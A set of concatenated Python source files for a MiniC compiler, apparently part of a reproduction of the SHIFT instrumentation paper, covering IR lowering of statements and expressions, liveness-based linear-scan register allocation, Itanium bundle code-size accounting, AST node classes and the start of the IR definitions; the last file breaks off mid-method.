        var = Variable(stmt.name, ctype, "vreg", vreg=vreg)
        self.declare(var)
        value: Operand = 0
        if stmt.init is not None:
            value, _ = self.gen_expr(stmt.init)
        self.emit(op="mov", dst=vreg, a=value)

    def gen_if(self, stmt: ast.If) -> None:
        """Lower if/else into labels and conditional branches."""
        then_label = self.new_label("then")
        else_label = self.new_label("else") if stmt.otherwise else None
        end_label = self.new_label("endif")
        self.gen_cond(stmt.cond, then_label, else_label or end_label)
        self.emit(op="label", name=then_label)
        self.gen_stmt(stmt.then)
        if stmt.otherwise is not None:
            self.emit(op="br", label=end_label)
            self.emit(op="label", name=else_label)
            self.gen_stmt(stmt.otherwise)
        self.emit(op="label", name=end_label)

    def gen_while(self, stmt: ast.While) -> None:
        """Lower a while loop."""
        head = self.new_label("while")
        body = self.new_label("body")
        end = self.new_label("endwhile")
        self.emit(op="label", name=head)
        self.gen_cond(stmt.cond, body, end)
        self.emit(op="label", name=body)
        self.break_labels.append(end)
        self.continue_labels.append(head)
        self.gen_stmt(stmt.body)
        self.break_labels.pop()
        self.continue_labels.pop()
        self.emit(op="br", label=head)
        self.emit(op="label", name=end)

    def gen_for(self, stmt: ast.For) -> None:
        """Lower a for loop (own scope for the init clause)."""
        self.scopes.append({})
        if stmt.init is not None:
            self.gen_stmt(stmt.init)
        head = self.new_label("for")
        body = self.new_label("body")
        step = self.new_label("step")
        end = self.new_label("endfor")
        self.emit(op="label", name=head)
        if stmt.cond is not None:
            self.gen_cond(stmt.cond, body, end)
        self.emit(op="label", name=body)
        self.break_labels.append(end)
        self.continue_labels.append(step)
        self.gen_stmt(stmt.body)
        self.break_labels.pop()
        self.continue_labels.pop()
        self.emit(op="label", name=step)
        if stmt.step is not None:
            self.gen_expr(stmt.step, want_value=False)
        self.emit(op="br", label=head)
        self.emit(op="label", name=end)
        self.scopes.pop()

    def gen_return(self, stmt: ast.Return) -> None:
        """Lower a return statement."""
        if stmt.value is not None:
            value, _ = self.gen_expr(stmt.value)
            self.emit(op="ret", a=value)
        else:
            self.emit(op="ret", a=0 if self.irf.returns_value else None)

    # -- conditions ---------------------------------------------------------

    def gen_cond(self, expr: ast.Expr, true_label: str, false_label: str) -> None:
        """Lower a condition into branches to true/false labels."""
        if isinstance(expr, ast.Binary) and expr.op in _RELS:
            left, _ = self.gen_expr(expr.left)
            right, _ = self.gen_expr(expr.right)
            left, right, rel = _normalise_cmp(left, right, _RELS[expr.op])
            self.emit(op="cbr", rel=rel, a=left, b=right,
                      label=true_label, label2=false_label)
            return
        if isinstance(expr, ast.Binary) and expr.op == "&&":
            middle = self.new_label("and")
            self.gen_cond(expr.left, middle, false_label)
            self.emit(op="label", name=middle)
            self.gen_cond(expr.right, true_label, false_label)
            return
        if isinstance(expr, ast.Binary) and expr.op == "||":
            middle = self.new_label("or")
            self.gen_cond(expr.left, true_label, middle)
            self.emit(op="label", name=middle)
            self.gen_cond(expr.right, true_label, false_label)
            return
        if isinstance(expr, ast.Unary) and expr.op == "!":
            self.gen_cond(expr.operand, false_label, true_label)
            return
        value, _ = self.gen_expr(expr)
        value, zero, rel = _normalise_cmp(value, 0, "ne")
        self.emit(op="cbr", rel=rel, a=value, b=zero,
                  label=true_label, label2=false_label)

    # -- expressions -------------------------------------------------------------

    def gen_expr(self, expr: ast.Expr, want_value: bool = True) -> Tuple[Operand, CType]:
        """Lower an expression; returns (operand, type)."""
        if isinstance(expr, ast.NumberLit):
            return expr.value, INT
        if isinstance(expr, ast.StringLit):
            symbol = self.gen.intern_string(expr.value)
            dst = self.new_vreg()
            self.emit(op="symaddr", dst=dst, name=symbol)
            return dst, pointer_to(CHAR)
        if isinstance(expr, ast.Ident):
            return self.gen_ident(expr)
        if isinstance(expr, ast.Unary):
            return self.gen_unary(expr)
        if isinstance(expr, ast.Binary):
            return self.gen_binary(expr)
        if isinstance(expr, ast.Assign):
            return self.gen_assign(expr)
        if isinstance(expr, ast.IncDec):
            return self.gen_incdec(expr)
        if isinstance(expr, ast.Call):
            return self.gen_call(expr, want_value)
        if isinstance(expr, (ast.Index, ast.Member)):
            lvalue = self.lvalue_of(expr)
            return self.load_lvalue(lvalue)
        if isinstance(expr, ast.Cast):
            value, _ = self.gen_expr(expr.operand)
            target = expr.target_type
            if target.kind == "char":
                dst = self.new_vreg()
                self.emit(op="sext", dst=dst, a=value, size=1)
                return dst, CHAR
            return value, target
        if isinstance(expr, ast.SizeOf):
            return expr.target_type.size, INT
        raise CompileError(f"unsupported expression {type(expr).__name__}", expr.line)

    def gen_ident(self, expr: ast.Ident) -> Tuple[Operand, CType]:
        """Lower a name use (variable load or function address)."""
        var = self.lookup(expr.name)
        if var is None:
            sig = self.gen.module.signatures.get(expr.name)
            if sig is not None:
                dst = self.new_vreg()
                self.emit(op="funcaddr", dst=dst, name=expr.name)
                return dst, INT
            raise CompileError(f"undefined identifier {expr.name}", expr.line)
        if var.ctype.is_array:
            # Arrays decay to a pointer to their first element.
            dst = self.new_vreg()
            if var.storage == "global":
                self.emit(op="symaddr", dst=dst, name=var.name)
            else:
                self.emit(op="frameaddr", dst=dst, imm=var.frame_offset)
            return dst, pointer_to(var.ctype.pointee)
        return self.load_lvalue(self.lvalue_of(expr))

    def gen_unary(self, expr: ast.Unary) -> Tuple[Operand, CType]:
        """Lower a unary operator."""
        op = expr.op
        if op == "&":
            return self.gen_addr_of(expr.operand)
        if op == "*":
            lvalue = self.lvalue_of(expr)
            return self.load_lvalue(lvalue)
        if op == "!":
            value, _ = self.gen_expr(expr.operand)
            dst = self.new_vreg()
            value, zero, rel = _normalise_cmp(value, 0, "eq")
            self.emit(op="setrel", dst=dst, rel=rel, a=value, b=zero)
            return dst, INT
        value, ctype = self.gen_expr(expr.operand)
        dst = self.new_vreg()
        if op == "-":
            value = self._force_vreg(value)
            zero = self.new_vreg()
            self.emit(op="const", dst=zero, imm=0)
            self.emit(op="bin", sub_op="sub", dst=dst, a=zero, b=value)
        elif op == "~":
            value = self._force_vreg(value)
            self.emit(op="bin", sub_op="xor", dst=dst, a=value, b=-1)
        else:
            raise CompileError(f"unsupported unary {op}", expr.line)
        return dst, INT

    def gen_addr_of(self, operand: ast.Expr) -> Tuple[Operand, CType]:
        """Lower ``&expr``."""
        if isinstance(operand, ast.Ident):
            var = self.lookup(operand.name)
            if var is None:
                sig = self.gen.module.signatures.get(operand.name)
                if sig is not None:
                    dst = self.new_vreg()
                    self.emit(op="funcaddr", dst=dst, name=operand.name)
                    return dst, INT
                raise CompileError(f"undefined identifier {operand.name}", operand.line)
            dst = self.new_vreg()
            if var.storage == "global":
                self.emit(op="symaddr", dst=dst, name=var.name)
            elif var.storage == "frame":
                self.emit(op="frameaddr", dst=dst, imm=var.frame_offset)
            else:
                raise CompileError(
                    f"cannot take address of register variable {var.name}", operand.line
                )
            pointee = var.ctype.pointee if var.ctype.is_array else var.ctype
            return dst, pointer_to(pointee)
        kind, payload, ctype = self.lvalue_of(operand)
        if kind != "mem":
            raise CompileError("cannot take address of this expression", operand.line)
        return payload, pointer_to(ctype)

    def gen_binary(self, expr: ast.Binary) -> Tuple[Operand, CType]:
        """Lower a binary operator (including && / || via control flow)."""
        op = expr.op
        if op in _RELS or op in ("&&", "||"):
            true_label = self.new_label("t")
            false_label = self.new_label("f")
            end = self.new_label("bend")
            dst = self.new_vreg()
            self.gen_cond(expr, true_label, false_label)
            self.emit(op="label", name=true_label)
            self.emit(op="mov", dst=dst, a=1)
            self.emit(op="br", label=end)
            self.emit(op="label", name=false_label)
            self.emit(op="mov", dst=dst, a=0)
            self.emit(op="label", name=end)
            return dst, INT
        left, ltype = self.gen_expr(expr.left)
        right, rtype = self.gen_expr(expr.right)
        return self._arith(op, left, ltype, right, rtype, expr.line)

    def _arith(self, op: str, left: Operand, ltype: CType,
               right: Operand, rtype: CType, line: int) -> Tuple[Operand, CType]:
        sub_op = _BINOPS.get(op)
        if sub_op is None:
            raise CompileError(f"unsupported operator {op}", line)
        ltype, rtype = ltype.decay(), rtype.decay()
        # Pointer arithmetic scales the integer operand by the pointee size.
        if op == "+" and rtype.is_pointer and not ltype.is_pointer:
            left, ltype, right, rtype = right, rtype, left, ltype
        if ltype.is_pointer and op in ("+", "-") and rtype.is_integer:
            right = self._scale(right, ltype.pointee.size)
            dst = self.new_vreg()
            self.emit(op="bin", sub_op=sub_op, dst=self._bin_dst(dst),
                      a=self._force_vreg(left), b=right)
            return dst, ltype
        if ltype.is_pointer and rtype.is_pointer and op == "-":
            dst = self.new_vreg()
            self.emit(op="bin", sub_op="sub", dst=dst,
                      a=self._force_vreg(left), b=self._force_vreg(right))
            size = ltype.pointee.size
            if size > 1:
                divided = self.new_vreg()
                self.emit(op="bin", sub_op="div", dst=divided, a=dst, b=size)
                return divided, INT
            return dst, INT
        # Constant folding for two immediates keeps generated code clean.
        if isinstance(left, int) and isinstance(right, int):
            return _fold(sub_op, left, right), INT
        dst = self.new_vreg()
        self.emit(op="bin", sub_op=sub_op, dst=dst,
                  a=self._force_vreg(left), b=right)
        return dst, INT

    def _bin_dst(self, dst: VReg) -> VReg:
        return dst

    def _scale(self, value: Operand, size: int) -> Operand:
        if size == 1:
            return value
        if isinstance(value, int):
            return value * size
        dst = self.new_vreg()
        if size & (size - 1) == 0:
            self.emit(op="bin", sub_op="shl", dst=dst, a=value, b=size.bit_length() - 1)
        else:
            self.emit(op="bin", sub_op="mul", dst=dst, a=value, b=size)
        return dst

    def _force_vreg(self, value: Operand) -> VReg:
        if isinstance(value, VReg):
            return value
        dst = self.new_vreg()
        self.emit(op="const", dst=dst, imm=value)
        return dst

    def gen_assign(self, expr: ast.Assign) -> Tuple[Operand, CType]:
        """Lower plain or compound assignment; yields the stored value."""
        lvalue = self.lvalue_of(expr.target)
        kind, payload, ctype = lvalue
        if expr.op == "=":
            value, _ = self.gen_expr(expr.value)
        else:
            current, current_type = self.load_lvalue(lvalue)
            rhs, rhs_type = self.gen_expr(expr.value)
            value, _ = self._arith(expr.op[:-1], current, current_type,
                                   rhs, rhs_type, expr.line)
        self.store_lvalue(lvalue, value)
        return value, ctype

    def gen_incdec(self, expr: ast.IncDec) -> Tuple[Operand, CType]:
        """Lower ++/-- with C value semantics."""
        lvalue = self.lvalue_of(expr.target)
        old, ctype = self.load_lvalue(lvalue)
        step = ctype.pointee.size if ctype.is_pointer else 1
        if not expr.prefix:
            # Snapshot the old value: for register variables the loaded
            # operand aliases the variable itself and is about to change.
            snapshot = self.new_vreg()
            self.emit(op="mov", dst=snapshot, a=old)
            old = snapshot
        new = self.new_vreg()
        sub_op = "add" if expr.op == "++" else "sub"
        self.emit(op="bin", sub_op=sub_op, dst=new,
                  a=self._force_vreg(old), b=step)
        self.store_lvalue(lvalue, new)
        return (new if expr.prefix else old), ctype

    def gen_call(self, expr: ast.Call, want_value: bool) -> Tuple[Operand, CType]:
        """Lower a direct call or the __icall builtin."""
        if expr.name == "__icall":
            if not expr.args:
                raise CompileError("__icall needs a function pointer", expr.line)
            func, _ = self.gen_expr(expr.args[0])
            args = [self.gen_expr(a)[0] for a in expr.args[1:]]
            dst = self.new_vreg()
            self.emit(op="icall", dst=dst, a=self._force_vreg(func), args=tuple(args))
            return dst, INT
        sig = self.gen.module.signatures.get(expr.name)
        if sig is None:
            raise CompileError(f"call to undeclared function {expr.name}", expr.line)
        if len(expr.args) != len(sig.params):
            raise CompileError(
                f"{expr.name} expects {len(sig.params)} args, got {len(expr.args)}",
                expr.line,
            )
        args = [self.gen_expr(a)[0] for a in expr.args]
        dst = self.new_vreg() if not sig.ret.is_void else None
        self.emit(op="call", dst=dst, name=expr.name, args=tuple(args))
        if sig.ret.is_void:
            return 0, VOID
        return dst, sig.ret

    # -- lvalues -----------------------------------------------------------------

    def lvalue_of(self, expr: ast.Expr) -> LValue:
        """Evaluate an lvalue to a register binding or memory address."""
        if isinstance(expr, ast.Ident):
            var = self.lookup(expr.name)
            if var is None:
                raise CompileError(f"undefined identifier {expr.name}", expr.line)
            if var.storage == "vreg":
                return ("vreg", var, var.ctype)
            addr = self.new_vreg()
            if var.storage == "global":
                self.emit(op="symaddr", dst=addr, name=var.name)
            else:
                self.emit(op="frameaddr", dst=addr, imm=var.frame_offset)
            return ("mem", addr, var.ctype)
        if isinstance(expr, ast.Unary) and expr.op == "*":
            value, ctype = self.gen_expr(expr.operand)
            ctype = ctype.decay()
            if not ctype.is_pointer:
                raise CompileError("dereference of non-pointer", expr.line)
            return ("mem", self._force_vreg(value), ctype.pointee)
        if isinstance(expr, ast.Index):
            base, btype = self.gen_expr(expr.base)
            btype = btype.decay()
            if not btype.is_pointer:
                raise CompileError("indexing a non-pointer", expr.line)
            index, itype = self.gen_expr(expr.index)
            addr, _ = self._arith("+", base, btype, index, itype, expr.line)
            return ("mem", self._force_vreg(addr), btype.pointee)
        if isinstance(expr, ast.Member):
            return self._lvalue_member(expr)
        raise CompileError(f"not an lvalue: {type(expr).__name__}", expr.line)

    def _lvalue_member(self, expr: ast.Member) -> LValue:
        """``base.field`` / ``base->field``: base address plus offset."""
        if expr.arrow:
            base, btype = self.gen_expr(expr.base)
            btype = btype.decay()
            if not (btype.is_pointer and btype.pointee.is_struct):
                raise CompileError("-> requires a struct pointer", expr.line)
            struct = btype.pointee
            base_addr = self._force_vreg(base)
        else:
            kind, payload, ctype = self.lvalue_of(expr.base)
            if kind != "mem" or not ctype.is_struct:
                raise CompileError(". requires a struct lvalue", expr.line)
            struct = ctype
            base_addr = payload
        try:
            member = struct.field(expr.name)
        except KeyError as exc:
            raise CompileError(str(exc), expr.line) from None
        if member.offset == 0:
            return ("mem", base_addr, member.ctype)
        addr = self.new_vreg()
        self.emit(op="bin", sub_op="add", dst=addr, a=base_addr, b=member.offset)
        return ("mem", addr, member.ctype)

    def load_lvalue(self, lvalue: LValue) -> Tuple[Operand, CType]:
        """Read an lvalue (arrays decay; whole structs are rejected)."""
        kind, payload, ctype = lvalue
        if kind == "vreg":
            return payload.vreg, ctype
        if ctype.is_array:
            return payload, pointer_to(ctype.pointee)
        if ctype.is_struct:
            raise CompileError(
                f"struct {ctype.tag} cannot be used as a value; take its address"
            )
        dst = self.new_vreg()
        self.emit(op="load", dst=dst, a=payload,
                  size=ctype.load_size, signed=ctype.signed)
        return dst, ctype

    def store_lvalue(self, lvalue: LValue, value: Operand) -> None:
        """Write a value through an lvalue."""
        kind, payload, ctype = lvalue
        if kind == "vreg":
            self.emit(op="mov", dst=payload.vreg, a=value)
            return
        self.emit(op="store", a=payload, b=self._force_vreg(value),
                  size=ctype.load_size)


def _normalise_cmp(left: Operand, right: Operand, rel: str):
    """Compares need a register on the left; swap/materialise as needed."""
    if isinstance(left, int) and isinstance(right, int):
        # Shouldn't normally happen (folded earlier); keep one side symbolic.
        return left, right, rel
    if isinstance(left, int):
        return right, left, _REL_SWAP.get(rel, rel)
    return left, right, rel


def _fold(sub_op: str, a: int, b: int) -> int:
    import operator

    table = {
        "add": operator.add, "sub": operator.sub, "mul": operator.mul,
        "and": operator.and_, "or": operator.or_, "xor": operator.xor,
        "shl": operator.lshift, "shr": operator.rshift,
    }
    if sub_op == "div":
        return int(a / b) if b else 0
    if sub_op == "mod":
        return int(a - b * int(a / b)) if b else 0
    return table[sub_op](a, b)


def _collect_address_taken(block: Optional[ast.Block]) -> set:
    """Names whose address is taken (must live in the stack frame)."""
    taken: set = set()

    def walk(node: object) -> None:
        if isinstance(node, ast.Unary) and node.op == "&":
            if isinstance(node.operand, ast.Ident):
                taken.add(node.operand.name)
            walk(node.operand)
            return
        if isinstance(node, ast.Node):
            for value in vars(node).values():
                walk(value)
        elif isinstance(node, list):
            for item in node:
                walk(item)

    if block is not None:
        walk(block)
    return taken
