"""Liveness analysis and linear-scan register allocation.

Virtual registers get physical general registers where possible:
caller-saved ``r14``-``r27`` for values that do not live across a call,
callee-saved ``r4``-``r7`` for values that do, and stack slots when both
pools run out.  ``r2``/``r3``/``r9``-``r11`` are reserved for the SHIFT
instrumentation pass, ``r28``-``r30`` for code-generator scratch and
``r31`` for the NaT-source register (paper section 4.1).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Set, Tuple

from repro.compiler.ir import IRFunction, IRInstr, VReg

CALLER_SAVED_POOL: Tuple[int, ...] = tuple(range(14, 28))  # r14..r27
CALLEE_SAVED_POOL: Tuple[int, ...] = (4, 5, 6, 7)  # r4..r7
INSTRUMENTATION_SCRATCH: Tuple[int, ...] = (2, 3, 9, 10, 11)
CODEGEN_SCRATCH: Tuple[int, ...] = (28, 29, 30)


@dataclass
class Interval:
    """Conservative (hole-free) live interval of one virtual register."""

    vreg: VReg
    start: int
    end: int  # exclusive
    crosses_call: bool = False


@dataclass
class Allocation:
    """Result of register allocation for one function."""

    #: VReg -> physical GR index (register-resident values)
    regs: Dict[VReg, int] = field(default_factory=dict)
    #: VReg -> spill-slot ordinal (0, 1, 2, ...)
    slots: Dict[VReg, int] = field(default_factory=dict)
    #: Callee-saved registers used (must be saved in the prologue).
    callee_saved_used: List[int] = field(default_factory=list)

    @property
    def spill_slot_count(self) -> int:
        """Number of stack slots the allocation needs."""
        return len(self.slots)

    def location(self, vreg: VReg) -> Tuple[str, int]:
        """('reg', idx) or ('slot', ordinal) for a virtual register."""
        if vreg in self.regs:
            return ("reg", self.regs[vreg])
        if vreg in self.slots:
            return ("slot", self.slots[vreg])
        raise KeyError(f"{vreg} was never allocated")


@dataclass
class _Block:
    start: int  # index of first instruction
    end: int  # index one past the last
    succs: List[int] = field(default_factory=list)
    use: Set[VReg] = field(default_factory=set)
    defs: Set[VReg] = field(default_factory=set)
    live_in: Set[VReg] = field(default_factory=set)
    live_out: Set[VReg] = field(default_factory=set)


def build_blocks(body: List[IRInstr]) -> List[_Block]:
    """Partition the linear IR into basic blocks and wire the CFG."""
    # Block leaders: index 0, every label, every instruction after a terminator.
    leaders = {0}
    label_at: Dict[str, int] = {}
    for i, instr in enumerate(body):
        if instr.op == "label":
            leaders.add(i)
            label_at[instr.name] = i
        elif instr.is_terminator and i + 1 < len(body):
            leaders.add(i + 1)
    ordered = sorted(leaders)
    blocks: List[_Block] = []
    index_of_leader: Dict[int, int] = {}
    for n, lead in enumerate(ordered):
        end = ordered[n + 1] if n + 1 < len(ordered) else len(body)
        index_of_leader[lead] = n
        blocks.append(_Block(start=lead, end=end))

    def block_of_label(name: str) -> int:
        return index_of_leader[label_at[name]]

    for n, block in enumerate(blocks):
        if block.start == block.end:
            continue
        last = body[block.end - 1]
        if last.op == "cbr":
            block.succs = [block_of_label(last.label), block_of_label(last.label2)]
        elif last.op == "br":
            block.succs = [block_of_label(last.label)]
        elif last.op == "ret":
            block.succs = []
        elif n + 1 < len(blocks):
            block.succs = [n + 1]
        for instr in body[block.start:block.end]:
            for used in instr.uses():
                if used not in block.defs:
                    block.use.add(used)
            defined = instr.defines()
            if defined is not None:
                block.defs.add(defined)
    return blocks


def compute_liveness(body: List[IRInstr], params: List[VReg]) -> List[_Block]:
    """Iterative backward dataflow liveness over the CFG."""
    blocks = build_blocks(body)
    changed = True
    while changed:
        changed = False
        for block in reversed(blocks):
            live_out: Set[VReg] = set()
            for succ in block.succs:
                live_out |= blocks[succ].live_in
            live_in = block.use | (live_out - block.defs)
            if live_out != block.live_out or live_in != block.live_in:
                block.live_out = live_out
                block.live_in = live_in
                changed = True
    return blocks


def build_intervals(func: IRFunction) -> Tuple[List[Interval], List[int]]:
    """Live intervals plus the positions of call instructions."""
    body = func.body
    blocks = compute_liveness(body, func.param_vregs)
    starts: Dict[VReg, int] = {}
    ends: Dict[VReg, int] = {}
    call_positions = [i for i, instr in enumerate(body) if instr.is_call]

    def extend(vreg: VReg, lo: int, hi: int) -> None:
        starts[vreg] = min(starts.get(vreg, lo), lo)
        ends[vreg] = max(ends.get(vreg, hi), hi)

    for block in blocks:
        for vreg in block.live_out:
            extend(vreg, block.start, block.end)
        live = set(block.live_out)
        for pos in range(block.end - 1, block.start - 1, -1):
            instr = body[pos]
            defined = instr.defines()
            if defined is not None:
                extend(defined, pos, pos + 1)
                live.discard(defined)
            for used in instr.uses():
                extend(used, pos, pos + 1)
                live.add(used)

    # Parameters are defined by the prologue: their interval begins at 0.
    for vreg in func.param_vregs:
        if vreg in starts:
            starts[vreg] = 0

    intervals = []
    for vreg, start in starts.items():
        end = ends[vreg]
        crosses = _any_cross(start, end, call_positions, body, vreg)
        intervals.append(Interval(vreg, start, end, crosses_call=crosses))
    intervals.sort(key=lambda it: (it.start, it.end))
    return intervals, call_positions


def _any_cross(start: int, end: int, call_positions: List[int], body: List[IRInstr], vreg: VReg) -> bool:
    """True if the value must survive across some call.

    A value consumed *at* the call (as an argument, with no later use)
    does not cross it; a value defined *by* the call starts after it.
    """
    for pos in call_positions:
        if start <= pos < end - 1:
            if pos == start and body[pos].defines() == vreg:
                continue  # the interval begins with this call's result
            return True
    return False


def allocate(func: IRFunction) -> Allocation:
    """Linear-scan allocation over the function's live intervals."""
    intervals, _ = build_intervals(func)
    allocation = Allocation()
    free_caller = list(CALLER_SAVED_POOL)
    free_callee = list(CALLEE_SAVED_POOL)
    active: List[Tuple[Interval, int, str]] = []  # (interval, reg, pool)

    def expire(current_start: int) -> None:
        still_active = []
        for interval, reg, pool in active:
            if interval.end <= current_start:
                (free_callee if pool == "callee" else free_caller).append(reg)
            else:
                still_active.append((interval, reg, pool))
        active[:] = still_active

    for interval in intervals:
        expire(interval.start)
        if interval.crosses_call:
            pools = [("callee", free_callee)]
        else:
            pools = [("caller", free_caller), ("callee", free_callee)]
        assigned = False
        for pool_name, pool in pools:
            if pool:
                reg = pool.pop(0)
                allocation.regs[interval.vreg] = reg
                active.append((interval, reg, pool_name))
                if pool_name == "callee" and reg not in allocation.callee_saved_used:
                    allocation.callee_saved_used.append(reg)
                assigned = True
                break
        if not assigned:
            allocation.slots[interval.vreg] = len(allocation.slots)
    allocation.callee_saved_used.sort()
    return allocation
