"""Compiler diagnostics."""

from __future__ import annotations


class CompileError(Exception):
    """Any error raised while compiling MiniC source."""

    def __init__(self, message: str, line: int = 0, column: int = 0) -> None:
        location = f"{line}:{column}: " if line else ""
        super().__init__(f"{location}{message}")
        self.line = line
        self.column = column
