"""Static code-size accounting (paper Table 3).

Instructions are packed three to a 16-byte Itanium bundle; code size is
measured in bundle bytes.  Natives and ``_start`` are excluded so that
only the compiled (and instrumented) application code is compared.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict

from repro.compiler.pipeline import CompiledProgram

BUNDLE_SLOTS = 3
BUNDLE_BYTES = 16


def instructions_to_bytes(count: int) -> int:
    """Code bytes for ``count`` instructions (3 slots per 16-byte bundle)."""
    return (count + BUNDLE_SLOTS - 1) // BUNDLE_SLOTS * BUNDLE_BYTES


@dataclass(frozen=True)
class CodeSize:
    """Code size of one compiled program."""

    instructions: int
    bytes: int

    @staticmethod
    def of(compiled: CompiledProgram) -> "CodeSize":
        """Measure a compiled program's instrumented code size."""
        count = compiled.total_instructions
        return CodeSize(instructions=count, bytes=instructions_to_bytes(count))


def expansion_percent(base: CodeSize, instrumented: CodeSize) -> float:
    """Size growth of instrumented code over the original, in percent."""
    if base.bytes == 0:
        return 0.0
    return 100.0 * (instrumented.bytes - base.bytes) / base.bytes


def per_function_sizes(compiled: CompiledProgram) -> Dict[str, int]:
    """Bytes per function."""
    return {
        name: instructions_to_bytes(count)
        for name, count in compiled.function_sizes.items()
    }
