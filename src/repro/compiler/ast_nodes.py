"""AST node definitions for MiniC."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional

from repro.compiler.ctypes_ import CType


@dataclass
class Node:
    """Base class for all AST nodes; carries the source line."""

    line: int = 0


# --- Expressions -------------------------------------------------------


@dataclass
class Expr(Node):
    """Base class for expression nodes."""


@dataclass
class NumberLit(Expr):
    """Integer or character literal."""

    value: int = 0


@dataclass
class StringLit(Expr):
    """String literal (interned into static data)."""

    value: bytes = b""


@dataclass
class Ident(Expr):
    """A variable or function name."""

    name: str = ""


@dataclass
class Unary(Expr):
    """Prefix operator: -, ~, !, * (deref), &."""

    op: str = ""  # '-', '~', '!', '*', '&'
    operand: Expr = None


@dataclass
class Binary(Expr):
    """Infix binary operator."""

    op: str = ""
    left: Expr = None
    right: Expr = None


@dataclass
class Assign(Expr):
    """Assignment, plain (=) or compound (+= ...)."""

    op: str = "="  # '=', '+=', '-=', ...
    target: Expr = None
    value: Expr = None


@dataclass
class IncDec(Expr):
    """++/--, prefix or postfix."""

    op: str = "++"
    prefix: bool = True
    target: Expr = None


@dataclass
class Call(Expr):
    """Direct function call name(args)."""

    name: str = ""
    args: List[Expr] = field(default_factory=list)


@dataclass
class IndirectCall(Expr):
    """Call through a function-pointer expression."""

    func: Expr = None
    args: List[Expr] = field(default_factory=list)


@dataclass
class Index(Expr):
    """Array/pointer subscript base[index]."""

    base: Expr = None
    index: Expr = None


@dataclass
class Member(Expr):
    """Struct member access: ``base.name`` or ``base->name`` (arrow)."""

    base: Expr = None
    name: str = ""
    arrow: bool = False


@dataclass
class Cast(Expr):
    """C-style cast (type)expr."""

    target_type: CType = None
    operand: Expr = None


@dataclass
class SizeOf(Expr):
    """sizeof(type) -- a compile-time constant."""

    target_type: CType = None


@dataclass
class AddrOfFunc(Expr):
    """Address of a named function."""

    name: str = ""


# --- Statements ---------------------------------------------------------


@dataclass
class Stmt(Node):
    """Base class for statement nodes."""


@dataclass
class ExprStmt(Stmt):
    """An expression evaluated for its side effects."""

    expr: Expr = None


@dataclass
class DeclStmt(Stmt):
    """Local declaration with optional initialiser."""

    ctype: CType = None
    name: str = ""
    init: Optional[Expr] = None


@dataclass
class Block(Stmt):
    """{ ... } -- a new lexical scope."""

    statements: List[Stmt] = field(default_factory=list)


@dataclass
class If(Stmt):
    """if/else statement."""

    cond: Expr = None
    then: Stmt = None
    otherwise: Optional[Stmt] = None


@dataclass
class While(Stmt):
    """while loop."""

    cond: Expr = None
    body: Stmt = None


@dataclass
class For(Stmt):
    """for loop; any clause may be absent."""

    init: Optional[Stmt] = None
    cond: Optional[Expr] = None
    step: Optional[Expr] = None
    body: Stmt = None


@dataclass
class Return(Stmt):
    """return with optional value."""

    value: Optional[Expr] = None


@dataclass
class Break(Stmt):
    """break out of the innermost loop."""


@dataclass
class Continue(Stmt):
    """continue with the innermost loop's next iteration."""


# --- Top level -----------------------------------------------------------


@dataclass
class Param(Node):
    """One function parameter."""

    ctype: CType = None
    name: str = ""


@dataclass
class FunctionDef(Node):
    """Function definition, prototype (body=None) or native decl."""

    ret: CType = None
    name: str = ""
    params: List[Param] = field(default_factory=list)
    body: Optional[Block] = None  # None for prototypes
    is_native: bool = False


@dataclass
class GlobalDef(Node):
    """Global variable with optional static initialiser."""

    ctype: CType = None
    name: str = ""
    init: Optional[object] = None  # NumberLit, StringLit, or list of NumberLit


@dataclass
class TranslationUnit(Node):
    """One parsed source file: functions plus globals."""

    functions: List[FunctionDef] = field(default_factory=list)
    globals: List[GlobalDef] = field(default_factory=list)
