"""Register-transfer-level IR, the compiler's middle end.

This corresponds to GCC's RTL, the level at which the paper implements
SHIFT (between ``pass_leaf_regs`` and ``pass_sched2``): operations on
virtual registers plus explicit loads/stores, lowered to machine code
after register allocation, after which the instrumentation pass runs.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional, Tuple, Union


@dataclass(frozen=True)
class VReg:
    """A virtual register (64-bit value)."""

    id: int

    def __str__(self) -> str:
        return f"v{self.id}"


#: IR operands are virtual registers or immediate integers.
Operand = Union[VReg, int]

BIN_OPS = ("add", "sub", "mul", "div", "mod", "and", "or", "xor", "shl", "shr", "shru")
REL_OPS = ("eq", "ne", "lt", "le", "gt", "ge", "ltu", "geu")


@dataclass
class IRInstr:
    """One IR operation.  Field use depends on ``op``:

    =========  =====================================================
    op         meaning
    =========  =====================================================
    const      dst = imm
    symaddr    dst = address of data symbol ``name``
    funcaddr   dst = code address of function ``name``
    frameaddr  dst = sp + imm (a frame-slot address)
    mov        dst = a
    bin        dst = a <rel-free binop ``sub_op``> b
    sext       dst = sign-extend low ``size`` bytes of a
    load       dst = mem[a] (``size`` bytes, ``signed`` extension)
    store      mem[a] = b (``size`` bytes)
    setrel     dst = (a ``rel`` b) ? 1 : 0
    cbr        if (a ``rel`` b) goto label else goto label2
    br         goto label
    label      defines ``name``
    call       dst? = ``name``(args)
    icall      dst? = (*a)(args)
    ret        return a (or nothing)
    =========  =====================================================
    """

    op: str
    dst: Optional[VReg] = None
    a: Optional[Operand] = None
    b: Optional[Operand] = None
    sub_op: Optional[str] = None  # binop kind for 'bin'
    rel: Optional[str] = None  # relation for 'setrel'/'cbr'
    size: int = 8  # bytes for load/store/sext
    signed: bool = True
    imm: int = 0
    name: Optional[str] = None  # symbol / function / label name
    label: Optional[str] = None
    label2: Optional[str] = None
    args: Tuple[Operand, ...] = ()

    def uses(self) -> List[VReg]:
        """Virtual registers read by this instruction."""
        used = [x for x in (self.a, self.b) if isinstance(x, VReg)]
        used.extend(arg for arg in self.args if isinstance(arg, VReg))
        return used

    def defines(self) -> Optional[VReg]:
        """Virtual register written by this instruction, if any."""
        return self.dst

    @property
    def is_call(self) -> bool:
        """True for call/icall instructions."""
        return self.op in ("call", "icall")

    @property
    def is_terminator(self) -> bool:
        """True for instructions that end a basic block."""
        return self.op in ("cbr", "br", "ret")

    def __str__(self) -> str:
        if self.op == "const":
            return f"{self.dst} = {self.imm}"
        if self.op == "symaddr":
            return f"{self.dst} = &{self.name}"
        if self.op == "funcaddr":
            return f"{self.dst} = &&{self.name}"
        if self.op == "frameaddr":
            return f"{self.dst} = sp+{self.imm}"
        if self.op == "mov":
            return f"{self.dst} = {self.a}"
        if self.op == "bin":
